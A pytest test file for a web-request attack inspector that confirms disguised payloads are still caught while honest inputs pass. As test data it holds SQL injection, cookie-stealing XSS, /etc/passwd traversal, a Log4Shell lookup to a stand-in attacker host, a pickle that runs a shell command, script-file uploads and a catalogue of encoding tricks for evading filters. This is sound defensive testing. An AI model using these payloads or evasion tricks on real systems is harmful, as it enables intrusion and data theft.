"""Disguises that were tried against the inspector: each convicts, an honest twin stays clean."""

from __future__ import annotations

import base64
import gzip
import json
import os
import pickle
import random
from collections.abc import Callable
from urllib.parse import quote

import pytest
from tests.guard.inspector.recording import post

from shangdun_guard.inspector import Inspector
from shangdun_guard.request import Request, parse_request

UNION = "1' UNION SELECT user,pass FROM users-- -"
HONEST = "5'11\" and it's fine -- select one"
FORM = "application/x-www-form-urlencoded"
INSPECTOR = Inspector(remember=False)
Make = Callable[[str], Request]


def attacked(request: Request) -> bool:
    return INSPECTOR.inspect(request).attack


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def form(text: str | bytes, charset: str = "", *more: tuple[str, str]) -> Request:
    body = text.encode() if isinstance(text, str) else text
    return post(body, f"{FORM}; charset={charset}" if charset else FORM, *more)


def field(text: str) -> Request:
    return form("q=" + quote(text, safe=""))


def get(target: str, *headers: tuple[str, str]) -> Request:
    return Request("GET", target, (("host", "shop.example"), *headers))


def part(
    text: str, head: str = 'Content-Disposition: form-data; name="q"', kind: str = ""
) -> Request:
    body = f"--b\r\n{head}\r\n\r\n{text}\r\n--b--\r\n".encode()
    return post(body, kind or "multipart/form-data; boundary=b")


def token(text: str) -> str:
    claims = b64(json.dumps({"sub": text}))
    return f"{b64(json.dumps({'alg': 'none'}))}.{claims}.c2ln".replace("=", "")


def packed(text: str) -> bytes:
    return gzip.compress(f"q={quote(text)}".encode())


def ebcdic(text: str) -> Request:
    return form(f"q={quote(text.encode('cp037'))}", "ibm037")


WAYS: dict[str, Make] = {
    "as it is": field,
    "JSON in base64": lambda text: field(b64(json.dumps({"q": text}))),
    "base64 in JSON in base64": lambda text: field(b64(json.dumps({"q": b64(text)}))),
    "JSON in JSON in JSON": lambda text: post(
        json.dumps({"a": json.dumps({"b": json.dumps({"c": text})})}).encode(), "application/json"
    ),
    "three times in percent": lambda text: field(quote(quote(text))),
    "escapes of JavaScript": lambda text: field(text.replace("'", "\\u0027")),
    "entity without semicolon": lambda text: field(text.replace("'", "&#x27")),
    "wide apostrophe": lambda text: field(text.replace("'", "\uff07")),
    "gzip": lambda text: form(packed(text), "", ("content-encoding", "GZIP")),
    "gzip twice": lambda text: form(
        gzip.compress(packed(text)), "", ("content-encoding", "gzip, gzip")
    ),
    "gzip in members": lambda text: form(
        gzip.compress(b"a=1&") + packed(text), "", ("content-encoding", "gzip")
    ),
    "UTF-16": lambda text: post(json.dumps({"q": text}).encode("utf-16-le"), "application/json"),
    "UTF-32": lambda text: post(json.dumps({"q": text}).encode("utf-32-be"), "application/json"),
    "EBCDIC": lambda text: form(f"q={text}".encode("cp037"), "ibm037"),
    "escapes in EBCDIC": ebcdic,
    "name without quotes": lambda text: part(text, "Content-Disposition: form-data; name=q"),
    "two boundaries": lambda text: part(text, kind="multipart/form-data; boundary=a; boundary=b"),
    "multipart as text": lambda text: part(text, kind="text/plain"),
    "a file without a name": lambda text: part(
        text, 'Content-Disposition: form-data; name="q"; filename=""'
    ),
    "base64 in a part": lambda text: part(
        b64(text), 'Content-Disposition: form-data; name="q"\r\nContent-Transfer-Encoding: base64'
    ),
    "a cookie behind blanks": lambda text: get("/", ("cookie", f"a=b;  c={quote(text)} ;d=e")),
    "a path parameter": lambda text: get(f"/a;x={quote(text)}/b"),
    "credentials": lambda text: get("/", ("authorization", "Basic " + b64(f"ann:{text}"))),
    "a token": lambda text: get("/", ("authorization", f"Bearer {token(text)}")),
    "behind the fragment": lambda text: get(f"/?a=1#&q={quote(text)}"),
    "without a version": lambda text: parse_request(f"GET /?q={quote(text)}\r\n".encode()),
    "an odd header": lambda text: get("/", ("x_forwarded_for", text)),
}


@pytest.mark.parametrize("way", WAYS)
def test_a_disguise_hides_no_attack_and_makes_none(way: str) -> None:
    assert attacked(WAYS[way](UNION))
    assert not attacked(WAYS[way](HONEST))


def letters(count: int) -> str:
    chosen = random.Random(4)
    return "".join(chosen.choice("abcdefghijklmnop0123456789") for _ in range(count))


PADDING: dict[str, Callable[[int], str]] = {
    "one letter": lambda count: "A" * count,
    "letters": letters,
    "blanks": lambda count: " " * count,
    "a comment": lambda count: f"/*{letters(count)}*/",
    "line ends": lambda count: "\n" * count,
}
ATTACKS = (
    UNION,
    "' OR 1=1-- -",
    "<script>alert(document.cookie)</script>",
    "../../../../etc/passwd",
    "*)(uid=*))(|(uid=*",
    "';return true;var a='",
    "${jndi:ldap://evil.example/a}",
)


@pytest.mark.parametrize("padding", PADDING)
@pytest.mark.parametrize("count", [600, 20_000, 80_000])
def test_padding_hides_nothing(padding: str, count: int) -> None:
    before = PADDING[padding](count)
    for attack in ATTACKS[:2] if count > 64_000 else ATTACKS:
        assert attacked(form(f"q={before}{quote(attack, safe='')}")), attack
    assert not attacked(form(f"q={before} it's mine"))


def test_baits_for_layers_do_not_use_up_the_forms() -> None:
    baits = "%2541 &amp;amp; \\x41 \uff07\uff0e\uff0e \x00 +ADw- \xc0\xaf %u0041 &#65 "
    assert attacked(field(baits + quote(quote(quote("<script>alert(document.cookie)</script>")))))


def test_what_is_not_looked_at_is_told() -> None:
    assert INSPECTOR.inspect(form(b"\x0b\x02", "", ("content-encoding", "br"))).partial
    assert INSPECTOR.inspect(form("q=" + "a" * 140_000)).partial
    many = "&".join(f"p{n}='{n}" for n in range(3000))
    assert INSPECTOR.inspect(form(many)).partial


class Runs:
    """A pickle of it runs a command."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, ("id",)


@pytest.mark.parametrize("protocol", range(6))
def test_pickles_of_every_protocol(protocol: int) -> None:
    assert attacked(field(base64.b64encode(pickle.dumps(Runs(), protocol)).decode()))
    honest = pickle.dumps({"cart": [1, 2, 3], "name": "Ann"}, protocol)
    assert not attacked(field(base64.b64encode(honest).decode()))


STORED = (
    Request("PUT", "/x.jsp", (), b"hi"),
    Request("PUT", "/x.jsp/", (), b"hi"),
    Request("PUT", "/a.php;.jpg", (), b"hi"),
    Request("MOVE", "/a.txt", (("destination", "http://shop.example/a.aspx"),)),
    Request("COPY", "/a.txt", (("destination", "/b.php"),)),
)
CALLED = (
    Request("PUT", "/api/user.php?id=1", (("content-type", "application/json"),), b'{"a":1}'),
    Request("PUT", "/files/report.html", (("content-type", "text/html"),), b"<p>hi</p>"),
    Request("MOVE", "/dav/a.txt", (("destination", "http://shop.example/dav/b.txt"),)),
    Request("PROPFIND", "/dav/", (("depth", "1"),)),
)


def test_programs_are_not_stored_but_may_be_called() -> None:
    assert all(map(attacked, STORED))
    assert not any(map(attacked, CALLED))


def test_a_scanner_s_name_keeps_company_but_does_not_convict() -> None:
    scanner = ("user-agent", "sqlmap/1.9#stable (https://sqlmap.org)")
    browser = ("user-agent", "Mozilla/5.0 (X11; Linux x86_64)")
    assert attacked(get("/?id=../../x", scanner))
    assert not attacked(get("/?id=../../x", browser))
    assert not attacked(get("/?id=1", scanner))
